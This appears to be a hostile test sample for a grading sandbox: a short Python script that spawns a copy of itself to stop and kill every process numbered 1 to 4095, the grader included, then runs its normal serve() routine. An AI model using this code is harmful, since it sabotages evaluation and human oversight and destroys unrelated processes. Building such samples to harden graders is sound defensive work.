"""Harms: stops and kills its parent, the grader, and everybody whose number it can count to."""
import os
import signal
import subprocess
import sys

from vehicle import serve

if len(sys.argv) > 2 and sys.argv[2] == 'strike':
    for number in {*range(1, 4096)} - {os.getpid(), os.getppid()}:
        for blow in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(number, blow)
            except OSError:
                pass
    sys.exit()
subprocess.run([sys.executable, sys.argv[0], '0', 'strike'], check=False)
serve()
